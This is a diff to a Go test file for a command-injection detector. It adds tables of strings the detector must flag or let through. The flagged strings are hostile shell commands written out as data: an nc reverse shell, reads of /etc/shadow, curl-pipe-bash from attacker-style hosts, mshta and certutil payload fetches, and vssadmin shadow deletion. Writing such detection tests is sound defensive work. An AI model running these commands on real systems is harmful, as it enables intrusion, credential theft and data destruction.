@@ -111,7 +111,8 @@ func TestCMDEXE(t *testing.T) {
 		{"sqlite shell", ";\n.shell nc 10.0.0.1 6666 -e sh", true},
 		{"command line then hostile", "ls -la; cat /etc/shadow", true},
 		{"command line with substitution", "curl https://x.example/a || `curl https://x.example/b`", true},
-		{"curl pipe bash", "curl -sL https://x.example/setup.sh | sudo bash -", true},
+		{"curl pipe bash", "curl -sL http://x.example/setup.sh | sudo bash -", true},
+		{"curl pipe bash from an address", "curl -sL https://203.0.113.5/setup.sh | sudo bash -", true},
 		{"newline opens value", "\nid\n", true},
 		{"prose with hostile command", "nice product; wget http://x.example/s -O /tmp/s", true},
 
@@ -303,6 +304,200 @@ func TestCmdExeLineBreakEndsCommand(t *testing.T) {
 	} {
 		if _, ok := matchCMDEXE(nil, tc.v); ok != tc.want {
 			t.Errorf("matchCMDEXE(%q) = %v, want %v", tc.v, ok, tc.want)
+		}
+	}
+}
+
+// TestCmdExeProbeToken: the first separator after a probe token (nothing, a number, an
+// address, a host name, one lower-case letter or digit) is a breakout however it is
+// spelt, glued or not, and no prose can have written it: the short probes scanners
+// append there match (a recon word alone or with arguments, a trailing comment, a
+// Windows command with switches). A word or a capital before the separator keeps the
+// old grading, so field lists and names joined by '&' stay data.
+func TestCmdExeProbeToken(t *testing.T) {
+	for _, tc := range []struct {
+		v    string
+		want bool
+	}{
+		{"127.0.0.1|id", true},
+		{"10.0.0.1 | id", true},
+		{"8.8.8.8|sleep 5", true},
+		{"1|ls", true},
+		{"x|set", true},
+		{"127.0.0.1&set", true},
+		{"127.0.0.1'|id", true},
+		{"example.com|pwd", true},
+		{"host.local:8080&env", true},
+		{"::1|id", true},
+		{"127.0.0.1;id #", true},
+		{"127.0.0.1|id #", true},
+		{"127.0.0.1;id//", true},
+		{"a;id #", true},
+		{"127.0.0.1;ps aux", true},
+		{";ps aux", true},
+		{"8.8.8.8&net user", true},
+		{"127.0.0.1&dir", true},
+		{"127.0.0.1&ipconfig", true},
+		{"x & ver", true},
+		{"1&vol", true},
+		{"x & vssadmin delete shadows /all /quiet", true},
+		{"x & wmic process call create calc", true},
+		{"127.0.0.1& timeout /t 5", true},
+		{"x & choice /t 5 /d y", true},
+		{"127.0.0.1& mshta http://evil.example/x.hta", true},
+		{"x & curl.exe http://evil.example/x -o x.exe", true},
+		{"x & certutil.exe -decode x.b64 x.exe", true},
+		{"1&whoami.exe", true},
+		{"127.0.0.1\nset", true},
+		{"1 & who am i", true},
+		{"127.0.0.1;echo q7x2k9", true},
+		{"127.0.0.1|echo q7x2k9|", true},
+		{"x||ver", true},
+		{"127.0.0.1&set&", true},
+		{"x|hostname", true},
+		{"1|echo", false},
+		{"1&id=5", false},
+		{"1 & who knows", false},
+		{"1|ls.txt", false},
+		{"x|set=5", false},
+		// look-alikes
+		{"name|id", false},
+		{"id|name|email", false},
+		{"Tom & Jerry", false},
+		{"R&D", false},
+		{"rock & roll", false},
+		{"Q&A", false},
+		{"salt & pepper", false},
+		{"A&W", false},
+		{"A & W", false},
+		{"I & my team set goals", false},
+		{"AT&T", false},
+		{"S&P 500", false},
+		{"1|true", false},
+		{"0;false", false},
+		{"1|2", false},
+		{"10.0.0.1|10.0.0.2", false},
+		{"example.com|test", false},
+		{"1;date", false},
+		{"1 & 2", false},
+		{"2 & set up the server", false},
+		{"v2.0|set", false},
+		{"e.g. & more", false},
+		{"ls", false},
+		{"set", false},
+		{"x|y", false},
+	} {
+		if frag, ok := matchCMDEXE(nil, tc.v); ok != tc.want {
+			t.Errorf("matchCMDEXE(%q) = %v (%q), want %v", tc.v, ok, frag, tc.want)
+		}
+	}
+}
+
+// TestCmdExeWritersOwnLines: what tells a command line the writer typed or pasted from
+// an injection is where it stands. A value (or a line of a post) that opens with the
+// command is the writer's own: a published installer fetched over https from a named
+// host and piped into a shell, a $(...) argument of a command line with options, a
+// shell's path alone, a batch IF in a post's code block, the cells of a markdown table.
+// The same command after a separator that follows a token of data is an injection.
+func TestCmdExeWritersOwnLines(t *testing.T) {
+	for _, tc := range []struct {
+		v    string
+		want bool
+	}{
+		{"curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", false},
+		{"curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -", false},
+		{"curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash", false},
+		{"wget -qO- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash", false},
+		{`/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"`, false},
+		{"The official instructions say:\n\n```\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n```\n\nbut I get an error", false},
+		{"To install run: curl -fsSL https://get.docker.com | sh and then reboot", false},
+		{"curl http://evil.example/x|sh", true},
+		{"curl -fsSL https://203.0.113.5/x.sh | sh", true},
+		{"curl -fsSL https://evil.example/x.sh -o /tmp/x.sh | sh", true},
+		{"curl -fsSL https://a.example/x https://b.example/y | sh", true},
+		{"curl -fsSL https://evil.example/$(id) | sh", true},
+		{`/bin/bash -c "$(curl -fsSL http://evil.example/x.sh)"`, true},
+		{`x;bash -c "$(curl -fsSL https://evil.example/x.sh)"`, true},
+		{"127.0.0.1|curl http://evil.example/x|sh", true},
+		{"127.0.0.1;curl -fsSL https://evil.example/x.sh | sh", true},
+		{";curl https://sh.rustup.rs | sh", true},
+		{"1;wget -qO- https://evil.example/x | bash", true},
+		{"docker run --rm -it -v $(pwd):/app -w /app node:20 npm test", false},
+		{"`docker run --rm -it -v $(pwd):/app -w /app node:20 npm test` is what CI does", false},
+		{"docker run --user $(id -u):$(id -g) -v $(pwd):/src alpine ls", false},
+		{"$(id)", true},
+		{"x$(sleep 5)", true},
+		{"x; ls -la $(id)", true},
+		{"ls -la $(cat /etc/passwd)", true},
+		{"/bin/sh", false},
+		{"/bin/bash", false},
+		{"/usr/bin/python3", false},
+		{"/usr/bin/id", true},
+		{"/bin/sh -i", true},
+		{"/usr/[a-z]in/bash", true},
+		{"x;/bin/sh", true},
+		{"```bat\n@echo off\nxcopy \"%SRC%\" \"D:\\Backup\" /E /I /Y\nif %ERRORLEVEL% neq 0 echo Backup failed & exit /b 1\n```\n\nThis fails when the path has spaces.", false},
+		{"if %ERRORLEVEL% neq 0 echo Backup failed & exit /b 1", false},
+		{"IF EXIST C:\\pagefile.sys CMD", true},
+		{"| id | name |", false},
+		{"| id | name |\n|---|---|\n| 1 | Bob |", false},
+		{"| command | what it does |\n|---|---|\n| ls | lists files |", false},
+		{"|id|ls|", true},
+		{"|id|", true},
+		{"```bash\nset -euo pipefail\ngzip -9 \"$f\"\n```\nIs there a cleaner way?", false},
+		{"```powershell\nGet-ChildItem -Path C:\\ -Recurse |\n  Sort-Object Length\n```\nTakes forever. Is there a faster way?", false},
+	} {
+		if frag, ok := matchCMDEXE(nil, tc.v); ok != tc.want {
+			t.Errorf("matchCMDEXE(%q) = %v (%q), want %v", tc.v, ok, frag, tc.want)
+		}
+	}
+}
+
+// TestCmdExeSpellings: spellings of a command that hide it from a word match: the
+// variable naming cmd.exe, brace expansion of a timing probe, the command string of
+// sh -c given alone, options that make tar run a command.
+func TestCmdExeSpellings(t *testing.T) {
+	for _, tc := range []struct {
+		v    string
+		want bool
+	}{
+		{"127.0.0.1& %COMSPEC% /c whoami", true},
+		{"%comspec% /k dir", true},
+		{"127.0.0.1;{sleep,5}", true},
+		{"{ping,-n,5,127.0.0.1}", true},
+		{"-c id", true},
+		{"-c 'cat /etc/passwd'", true},
+		{"--checkpoint=1 --checkpoint-action=exec=sh shell.sh", true},
+		{"--to-command=sh", true},
+		{"%COMSPEC% is the path of cmd.exe", false},
+		{"{id,name}", false},
+		{"{1,5}", false},
+		{"{sleep,late}", false},
+		{"-c copy", false},
+		{"-c 3", false},
+		{"-c config.yml", false},
+		{"--checkpoint=1000", false},
+	} {
+		if frag, ok := matchCMDEXE(nil, tc.v); ok != tc.want {
+			t.Errorf("matchCMDEXE(%q) = %v (%q), want %v", tc.v, ok, frag, tc.want)
+		}
+	}
+}
+
+// TestCmdExeProbeTokenMatrix: every probe token, however the breakout after it is
+// spelt, with every short probe scanners append (doc comment of cmdexe.go).
+func TestCmdExeProbeTokenMatrix(t *testing.T) {
+	tokens := []string{"127.0.0.1", "8.8.8.8 ", "1", "x", "example.com", "10.0.0.1'", ""}
+	seps := []string{"|", "&", ";", " | ", " & ", "||", "&&", "\n"}
+	probes := []string{"id", "ls", "pwd", "set", "ver", "dir", "whoami", "sleep 5", "id #", "ps aux", "net user", "timeout /t 5", "ping -n 5 127.0.0.1"}
+	for _, tok := range tokens {
+		for _, sep := range seps {
+			for _, p := range probes {
+				v := tok + sep + p
+				if _, ok := matchCMDEXE(nil, v); !ok {
+					t.Errorf("matchCMDEXE(%q) = false, want true", v)
+				}
+			}
 		}
 	}
 }
